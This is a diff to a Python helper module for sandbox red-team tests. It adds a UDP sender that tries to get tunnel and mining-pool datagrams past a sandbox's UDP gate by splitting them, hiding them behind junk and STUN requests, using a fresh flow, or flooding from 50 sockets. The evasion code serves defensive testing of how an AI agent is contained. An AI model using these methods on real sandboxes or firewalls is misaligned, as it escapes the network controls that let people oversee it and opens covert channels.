@@ -11,11 +11,13 @@ tests/security/test_redteam_udp_allowed.py): plain sockets, no tool the sandbox 
 - `listen_main` (sandbox namespace): a raw UDP receiver on one port that logs every datagram with the chosen
   bytes it holds (``heard N bytes, marker yes|no``): what the agent receives unasked.
 - `udp_sink_main` / `udp_send_main`: the attacker's UDP server on an allowed UDP network and the agent's sender of
-  tunnel and pool datagrams to it (WireGuard, DTLS, QUIC, Stratum in JSON), each carrying the marker.
+  tunnel and pool datagrams to it (WireGuard, DTLS, QUIC, Stratum in JSON), each carrying the marker;
+  `udp_variant_main` sends them so as to slip past the UDP gate (split, after junk, on a second flow, a flood).
 """
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import select
@@ -297,3 +299,89 @@ def loopback_rewrite(device: str) -> str:
 
 STAND_IN_V4 = "192.0.2.99"
 STAND_IN_V6 = "2001:db8::99"
+
+
+STUN_BINDING = b"\x00\x01\x00\x00\x21\x12\xa4\x42"
+"""A STUN binding request's header (RFC 8489 §5: type, length 0, magic cookie); 12 random bytes of id follow."""
+
+
+def _pieces(data: bytes, parts: int = 3) -> list[bytes]:
+    size = -(-len(data) // parts)
+    return [data[i : i + size] for i in range(0, len(data), size)]
+
+
+class _Variant:
+    """One run of `udp_variant_main`: KIND's payload to a target, counting what the server answered."""
+
+    def __init__(self, kind: str, address: str, port: int) -> None:
+        self.address, self.target = address, (address, port)
+        self.payload = PAYLOADS[kind]()
+        self.sent = self.answers = self.benign = 0
+
+    def opened(self, wait: float = 0.5) -> socket.socket:
+        sock = socket.socket(_family(self.address), socket.SOCK_DGRAM)
+        sock.settimeout(wait)
+        return sock
+
+    def exchange(self, sock: socket.socket, data: bytes, benign: bool = False) -> None:
+        sock.sendto(data, self.target)
+        self.sent += 1
+        try:
+            answered = MARK in sock.recv(65535)
+        except TimeoutError:
+            answered = False
+        if benign:
+            self.benign += answered
+        else:
+            self.answers += answered
+
+    def split(self) -> None:
+        with self.opened() as sock:
+            for piece in _pieces(self.payload):
+                self.exchange(sock, piece)
+
+    def junk_first(self) -> None:
+        with self.opened() as sock:
+            for junk in (os.urandom(64), os.urandom(200), STUN_BINDING + os.urandom(12)):
+                self.exchange(sock, junk, benign=True)
+            self.exchange(sock, self.payload)
+
+    def second_flow(self) -> None:
+        with self.opened() as first:
+            for _ in range(3):
+                self.exchange(first, STUN_BINDING + os.urandom(12), benign=True)
+        with self.opened() as second:
+            self.exchange(second, self.payload)
+
+    def flood(self) -> None:
+        socks = [self.opened() for _ in range(50)]
+        for sock in socks:
+            sock.setblocking(False)
+        for _ in range(100):
+            for sock in socks:
+                with contextlib.suppress(BlockingIOError):
+                    sock.sendto(self.payload, self.target)
+                    self.sent += 1
+        time.sleep(1.0)
+        for sock in socks:
+            with sock:
+                while True:
+                    try:
+                        self.answers += MARK in sock.recv(65535)
+                    except BlockingIOError:
+                        break
+
+
+def udp_variant_main() -> None:
+    """``python -c '...udp_variant_main()' VARIANT KIND ADDRESS PORT``: KIND's payload sent the VARIANT way, each
+    datagram waiting briefly for the server's answer; prints ``sent N, answers M, benign B`` (answers to the
+    payload's datagrams, to the benign ones).
+
+    ``split``: the payload cut in three datagrams of one flow; ``junk-first``: two random datagrams and a STUN
+    binding request first, then the payload, one flow; ``second-flow``: a benign flow (three STUN requests) and then
+    the payload from a new socket (a new source port); ``flood``: the payload 100 times from each of 50 sockets, as
+    fast as the sockets take them, then every answer read."""
+    variant, kind, address, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
+    run = _Variant(kind, address, port)
+    getattr(run, variant.replace("-", "_"))()
+    print(f"sent {run.sent}, answers {run.answers}, benign {run.benign}", flush=True)
